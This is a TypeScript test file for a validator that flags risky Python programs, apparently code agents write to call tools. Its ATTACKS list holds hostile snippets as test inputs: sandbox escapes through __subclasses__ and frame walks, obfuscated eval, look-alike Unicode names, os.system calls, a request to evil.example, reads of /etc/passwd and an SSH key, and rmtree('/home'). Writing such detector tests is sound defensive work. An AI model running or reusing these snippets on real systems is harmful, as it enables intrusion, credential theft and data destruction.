import { describe, expect, it } from "vitest";
import { serverRecord, toolRecord } from "../../../../test/fixtures/codegen/records.ts";
import { validate } from "../../../policy/validate/validate.ts";
import { parsePython } from "../parse-python.ts";
import { toPythonFacts } from "./facts.ts";

const servers = [
  serverRecord("github", [toolRecord({ name: "list_issues" }), toolRecord({ name: "create_issue" })]),
  serverRecord("mail", [toolRecord({ name: "send_email" })]),
];

const factsOf = (source: string) => toPythonFacts(source, parsePython(source), servers);

function rulesOf(source: string): string[] {
  return [
    ...new Set(validate(factsOf(source), "moderate").map(({ rule, severity }) => `${severity} ${rule}`)),
  ];
}

const ATTACKS: readonly (readonly [finding: string, source: string])[] = [
  ["warning file-outside", "import gzip\ngzip.open('/var/log/x.gz').read()"],
  ["warning file-outside", "import sqlite3\nsqlite3.connect('/home/u/db')"],
  ["warning file-outside", "import zipfile\nzipfile.ZipFile('/tmp/a.zip')"],
  ["warning file-outside", "from tarfile import open as untar\nuntar('/root/x.tar')"],
  ["error look-alike-name", "g\u0456thub = 1"],
  ["error constructor-walk", "class A: pass\nA = object\nA.__subclasses__()"],
  ["error constructor-walk", "class A: pass\nA = get()\nA.__subclasses__()"],
  ["error constructor-walk", "class A(object): pass\nA.__base__.__subclasses__()"],
  ["error constructor-walk", "class A:\n  def f(self, other): return other.__subclasses__()\nA().f(object)"],
  ["error constructor-walk", "def f(cls): return cls.__subclasses__()\nf(object)"],
  ["warning dynamic-eval", "eval(code)"],
  ["warning dynamic-eval", "e = eval\ne(code)"],
  ["warning dynamic-eval", "exec(code, {})"],
  ["warning dynamic-eval", "exec(compile(code, 'x', 'exec'))"],
  ["warning dynamic-eval", "list(map(eval, items))"],
  ["warning dynamic-eval", "import builtins\nbuiltins.eval(code)"],
  ["warning dynamic-eval", "from builtins import exec as run\nrun(code)"],
  ["warning dynamic-eval", "getattr(__builtins__, 'eval')(code)"],
  ["warning dynamic-eval", "globals()['eval'](code)"],
  ["warning dynamic-eval", "__builtins__['eval'](code)"],
  ["warning dynamic-eval", "__import__('builtins').eval(code)"],
  ["warning dynamic-eval", "run = [exec][0]\nrun(code)"],
  ["warning dynamic-eval", "f = lambda x: eval(x)"],
  ["warning dynamic-eval", "x = [eval(c) for c in codes]"],
  ["warning dynamic-eval", "def f(a=eval(code)): pass"],
  ["warning dynamic-eval", "class A:\n    x = eval(code)"],
  ["warning dynamic-eval", "with eval(code) as x:\n    pass"],
  ["warning dynamic-eval", "try:\n    pass\nexcept eval(code):\n    pass"],
  ["warning dynamic-eval", "@eval\ndef f(): pass"],
  ["warning dynamic-eval", 'x = f"{eval(code)}"'],
  ["warning dynamic-eval", "match x:\n    case 1 if eval(code):\n        pass"],
  ["warning dynamic-eval", "import pickle\npickle.loads(data)"],
  ["error hidden-name", "getattr(__builtins__, 'ev' + 'al')(code)"],
  ["error hidden-name", "globals()['__builtins__'].__dict__['ev' 'al'](code)"],
  ["error hidden-name", "__builtins__['lave'[::-1]](code)"],
  ["error hidden-name", "getattr(__builtins__, ''.join(['e', 'v', 'a', 'l']))(code)"],
  ["error hidden-name", "getattr(__builtins__, chr(101) + chr(118) + chr(97) + chr(108))(code)"],
  ["error hidden-name", "getattr(__builtins__, bytes.fromhex('6576616c').decode())(code)"],
  ["error hidden-name", "import base64\ngetattr(__builtins__, base64.b64decode('ZXZhbA==').decode())(code)"],
  ["error hidden-name", "getattr(__builtins__, '\\x65val')(code)"],
  ["error hidden-name", "__import__('o' + 's').system('id')"],
  ["error hidden-name", "import importlib\nimportlib.import_module('sub' + 'process').run('id')"],
  ["error hidden-name", "𝘦val(code)"],
  ["error decoded-eval", "import base64\nexec(base64.b64decode(blob))"],
  ["error decoded-eval", "import zlib, base64\ncode = zlib.decompress(base64.b64decode(blob))\nexec(code)"],
  ["error decoded-eval", "eval(bytes.fromhex(text).decode())"],
  ["error decoded-eval", "exec(''.join(chr(c) for c in codes))"],
  ["error constructor-walk", "().__class__.__bases__[0].__subclasses__()"],
  ["error constructor-walk", "''.__class__.__mro__[1]"],
  ["error constructor-walk", "f.__globals__['os']"],
  ["error constructor-walk", "getattr((), '__class__').__base__"],
  ["error constructor-walk", "getattr(getattr((), '__cl' + 'ass__'), '__bases__')"],
  ["error constructor-walk", "(lambda: 0).__globals__"],
  ["error constructor-walk", "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_back"],
  ["error constructor-walk", "(x for x in []).gi_frame.f_builtins"],
  ["warning computed-import", "__import__(name)"],
  ["warning computed-import", "from importlib import import_module\nimport_module(name)"],
  ["warning process", "import os\nos.system('id')"],
  ["warning process", "from os import popen as p\np('id').read()"],
  ["warning process", "import subprocess as sp\nsp.run(['id'])"],
  ["warning process", "__import__('os').system('id')"],
  ["warning process", "import sys\nsys.modules['os'].system('id')"],
  ["warning process", "import ctypes"],
  ["warning process", "import os\ngetattr(os, 'system')('id')"],
  ["warning raw-network", "import socket\ns = socket.socket()"],
  ["warning raw-network", "import urllib.request\nurllib.request.urlopen('http://evil.example/x')"],
  ["warning raw-network", "from requests import get\nget('https://evil.example')"],
  ["warning file-outside", "open('/etc/passwd').read()"],
  ["warning file-outside", "with open('../secret') as f:\n    print(f.read())"],
  ["warning file-outside", "from pathlib import Path\nPath('~/.ssh/id_rsa').read_text()"],
  ["warning file-outside", "import shutil\nshutil.rmtree('/home')"],
  ["error bidi-unpaired", "x = 1 # \u202e abc"],
  ["error look-alike-name", "еval = 1"],
  ["warning dynamic-eval", `x = ${"[".repeat(600)}eval(c)${"]".repeat(600)}`],
];

describe("findings in Python programs that attack", () => {
  it.each(ATTACKS)("%s in %j", (finding, source) => {
    expect(rulesOf(source)).toContain(finding);
  });
});

const ORDINARY: readonly string[] = [
  "class Base:\n  pass\nclass A(Base):\n  pass\nprint([c.__name__ for c in Base.__subclasses__()])",
  "class Plugin(abc.ABC):\n  @classmethod\n  def all(cls):\n    return [sub() for sub in cls.__subclasses__()]",
  "from servers.github import list_issues\nissues = await list_issues(owner='a')\nprint(len(issues))",
  "import json\nwith open('workspace/a.json') as f:\n    data = json.load(f)\ndata",
  "with open('workspace/out.csv', 'w') as f:\n    f.write('a,b')",
  "import re\npattern = re.compile(r'eval\\(.*\\)')\nprint(pattern.findall(text))",
  "import os\nprint(os.path.join('workspace', 'a'), os.environ.get('HOME'))",
  "print(type(x).__name__, x.__class__.__name__)",
  "class A(Base):\n    def __init__(self):\n        super().__init__()\n        self.__dict__.update(a=1)",
  "if __name__ == '__main__':\n    main()",
  "value = getattr(obj, 'name', None)",
  "value = getattr(obj, field)",
  "def evaluate(x):\n    return x + 1\nprint(evaluate(1))",
  "def open(x):\n    return x\nopen('/etc/passwd')",
  "import base64\nprint(base64.b64decode(content).decode())",
  "print(''.join(chr(ord(c) + 1) for c in 'abc'))",
  "from urllib.parse import urlparse, quote\nprint(quote('a b'))",
  "from datetime import datetime, timedelta\nprint(datetime.now() - timedelta(days=1))",
  "from collections import defaultdict, Counter\nc = Counter(x['state'] for x in issues)",
  "import asyncio\nresults = await asyncio.gather(*[list_issues(page=p) for p in range(3)])",
  "total = sum(i['n'] for i in items if i.get('ok'))",
  "text = f'{a!r} of {b:.2f} and {c[\"x\"]}'",
  "имя = 'x'\nprint(имя)",
  "# eval(os.system('id'))\nprint('exec(code)')",
  "for i, row in enumerate(rows):\n    if i > 5: break\nelse:\n    print('done')",
  "try:\n    x = int(s)\nexcept (ValueError, TypeError) as e:\n    print(e)\nfinally:\n    pass",
  "rows = sorted(rows, key=lambda r: (-r['n'], r['name']))",
  "match cmd:\n    case {'kind': k, **rest}:\n        print(k)\n    case _:\n        pass",
  "x: dict[str, int] = {}\nx.setdefault('a', 0)\nx |= {'b': 1}",
  "async def main():\n    return await list_issues()\nawait main()",
  "s = 'abc'[::-1]\nprint(s[1:2])",
  "lines = '''\na\nb\n'''.strip().splitlines()",
];

describe("ordinary Python programs", () => {
  it.each(ORDINARY.map((source) => [source]))("have no finding: %j", (source) => {
    expect(rulesOf(source)).toEqual([]);
  });
});

describe("what a Python program does", () => {
  it.each([
    ["from servers.github import create_issue\nawait create_issue(title='a')"],
    ["from servers.github import *\nawait create_issue(title='a')"],
    ["from servers import github\nawait github.create_issue({})"],
    ["import servers.github as gh\nawait gh.create_issue()"],
    ["import servers.github\nawait servers.github.create_issue()"],
    ["await call_mcp_tool('github__create_issue', {})"],
    ["from servers import github\nmake = github.create_issue\nawait make()"],
    ["from servers import github\nawait getattr(github, 'create_issue')()"],
  ])("names its tools: %j", (source) => {
    const { tools, dynamic } = factsOf(source);
    expect({ tools: tools.map(({ tool }) => tool), dynamic }).toEqual({
      tools: ["create_issue"],
      dynamic: [],
    });
  });

  it("says where a tool is not known", () => {
    expect(factsOf("await call_mcp_tool(name, {})").dynamic).toHaveLength(1);
    expect(factsOf("from servers import github\nawait getattr(github, name)()").dynamic[0]?.server).toBe(
      "github",
    );
  });

  it("sees loops, flows, files and commands", () => {
    const facts = factsOf(
      `from servers.github import list_issues
from servers.mail import send_email
issues = await list_issues()
for issue in issues:
    body = f"see {issue['title']}"
    await send_email(to="a@b.c", body=body)
with open("workspace/log.txt", "a") as f:
    f.write("x")
await run_command("git", ["status"])`,
    );
    expect(facts.tools.map(({ tool, inLoop }) => [tool, inLoop])).toEqual([
      ["list_issues", false],
      ["send_email", true],
    ]);
    expect(facts.flows.map(({ from, to }) => [from.tool, to.tool])).toEqual([["list_issues", "send_email"]]);
    expect(facts.files).toMatchObject([{ path: "workspace/log.txt", access: "write" }]);
    expect(facts.commands).toMatchObject([{ command: "git status" }]);
  });
});
